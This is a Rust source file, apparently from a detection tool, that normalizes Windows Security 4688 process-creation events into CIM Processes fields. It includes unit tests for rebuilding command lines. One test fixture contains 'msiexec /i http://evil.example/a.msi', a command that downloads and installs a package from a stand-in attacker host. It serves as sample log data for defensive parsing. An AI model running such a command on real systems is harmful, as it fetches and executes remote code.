//! Windows Security 4688 in XML rendering (`XmlWinEventLog:Security`), spec 5.4.

use std::borrow::Cow;

use cimhunt_cim::Field;
use cimhunt_decode::WinEvent;

use crate::{Outcome, basename, nonempty, windows_base};

const PROVIDER: &str = "Microsoft-Windows-Security-Auditing";

const AUDIT_SUCCESS: &str = "0x8020000000000000";
const AUDIT_FAILURE: &str = "0x8010000000000000";

/// Whether the event is a Security 4688 (a new process has been created).
pub fn is_process_creation(win: &WinEvent<'_>) -> bool {
    let security = win.provider() == Some(PROVIDER) || win.channel() == Some("Security");
    security && win.event_id_number() == Some(4688)
}

/// The `EventData` values the mapping reads, found in one pass (first value of each name).
#[derive(Default)]
struct Data<'a> {
    target_user_name: Option<&'a str>,
    subject_user_name: Option<&'a str>,
    new_process_name: Option<&'a str>,
    command_line: Option<&'a str>,
    new_process_id: Option<&'a str>,
    process_id: Option<&'a str>,
    parent_process_name: Option<&'a str>,
}

impl<'a> Data<'a> {
    fn read(win: &'a WinEvent<'_>) -> Self {
        let mut d = Data::default();
        for (name, value) in &win.data {
            let slot = match name.as_ref() {
                "TargetUserName" => &mut d.target_user_name,
                "SubjectUserName" => &mut d.subject_user_name,
                "NewProcessName" => &mut d.new_process_name,
                "CommandLine" => &mut d.command_line,
                "NewProcessId" => &mut d.new_process_id,
                "ProcessId" => &mut d.process_id,
                "ParentProcessName" => &mut d.parent_process_name,
                _ => continue,
            };
            if slot.is_none() {
                *slot = Some(value.as_ref());
            }
        }
        d
    }
}

/// The Windows add-on's mapping of 4688 to `Processes` fields.
pub fn map<'a>(win: &'a WinEvent<'_>) -> Outcome<'a> {
    let mut e = match windows_base(win) {
        Ok(e) => e,
        Err(e) => return Outcome::Invalid(e),
    };
    let d = Data::read(win);
    let named = |v: Option<&'a str>| nonempty(v).filter(|v| *v != "-");
    e.set_opt(
        Field::User,
        named(d.target_user_name).or_else(|| named(d.subject_user_name)),
    );
    let image = nonempty(d.new_process_name);
    if let Some(image) = image {
        e.set(Field::ProcessPath, image);
        e.set(Field::ProcessName, basename(image));
        e.set(Field::ProcessExec, basename(image));
    }
    e.set_opt(Field::Process, process(nonempty(d.command_line), image));
    e.set_opt(Field::ProcessId, nonempty(d.new_process_id));
    e.set_opt(Field::ParentProcessId, nonempty(d.process_id));
    if let Some(parent) = nonempty(d.parent_process_name) {
        e.set(Field::ParentProcess, parent);
        e.set(Field::ParentProcessPath, parent);
        e.set(Field::ParentProcessName, basename(parent));
        e.set(Field::ParentProcessExec, basename(parent));
    }
    e.set_opt(Field::UserId, nonempty(win.user_id()));
    let action = match win.keywords() {
        Some(AUDIT_SUCCESS) => Some("allowed"),
        Some(AUDIT_FAILURE) => Some("blocked"),
        _ => None,
    };
    e.set_opt(Field::Action, action);
    e.set(Field::VendorProduct, "Microsoft Windows");
    e.push(Field::Tag, "process");
    e.push(Field::Tag, "report");
    e.set(Field::Source, "XmlWinEventLog:Security");
    e.set(Field::Sourcetype, "xmlwineventlog");
    Outcome::Process(e)
}

/// The add-on's `process` rule (spec 5.4): the command line when its first token is a path,
/// otherwise the command line rebuilt on `NewProcessName`; `NewProcessName` when command-line
/// auditing is off.
pub fn process<'a>(command_line: Option<&'a str>, image: Option<&'a str>) -> Option<Cow<'a, str>> {
    let Some(cl) = command_line else {
        return image.map(Cow::Borrowed);
    };
    let (first, rest) = split_first_token(cl);
    if first.contains('\\') {
        return Some(Cow::Borrowed(cl));
    }
    // No NewProcessName to rebuild on: keep the command line rather than lose it. The add-on's
    // behaviour here is not documented (an inference, spec 5.4).
    let Some(image) = image else {
        return Some(Cow::Borrowed(cl));
    };
    if rest.is_empty() {
        return Some(Cow::Borrowed(image));
    }
    let rebuilt = if image.contains(char::is_whitespace) {
        format!("\"{image}\" {rest}")
    } else {
        format!("{image} {rest}")
    };
    Some(Cow::Owned(rebuilt))
}

/// The first token (a leading double-quoted run with its quotes, else the leading run of
/// non-whitespace) and the rest after the whitespace that follows it.
fn split_first_token(cl: &str) -> (&str, &str) {
    let end = if let Some(after_quote) = cl.strip_prefix('"') {
        after_quote.find('"').map_or(cl.len(), |i| i + 2)
    } else {
        cl.find(char::is_whitespace).unwrap_or(cl.len())
    };
    let (first, rest) = cl.split_at(end);
    (first, rest.trim_start())
}

#[cfg(test)]
mod tests {
    use super::*;

    const N: &str = r"C:\Windows\System32\msiexec.exe";

    #[test]
    fn command_line_with_a_path_is_kept() {
        let cl = r#""C:\Windows\System32\msiexec.exe" /i https://x/a.msi"#;
        assert_eq!(process(Some(cl), Some(N)).as_deref(), Some(cl));
    }

    #[test]
    fn command_line_without_a_path_is_rebuilt_cv27() {
        let got = process(Some("msiexec /i http://evil.example/a.msi"), Some(N));
        assert_eq!(
            got.as_deref(),
            Some(r"C:\Windows\System32\msiexec.exe /i http://evil.example/a.msi")
        );
        let spaced = r"C:\Program Files\Foo\msiexec.exe";
        let got = process(Some("msiexec /i http://evil.example/a.msi"), Some(spaced));
        assert_eq!(
            got.as_deref(),
            Some(r#""C:\Program Files\Foo\msiexec.exe" /i http://evil.example/a.msi"#)
        );
    }

    #[test]
    fn no_command_line_gives_the_image_cv28() {
        assert_eq!(process(None, Some(N)).as_deref(), Some(N));
        assert_eq!(process(Some("msiexec.exe"), Some(N)).as_deref(), Some(N));
    }

    #[test]
    fn quoted_first_token_without_backslash_is_rebuilt() {
        let got = process(Some(r#""msiexec.exe" /q"#), Some(N));
        assert_eq!(got.as_deref(), Some(r"C:\Windows\System32\msiexec.exe /q"));
    }

    #[test]
    fn unterminated_quote_is_one_token() {
        assert_eq!(split_first_token(r#""C:\a b"#), (r#""C:\a b"#, ""));
        assert_eq!(split_first_token("a   b c"), ("a", "b c"));
    }
}
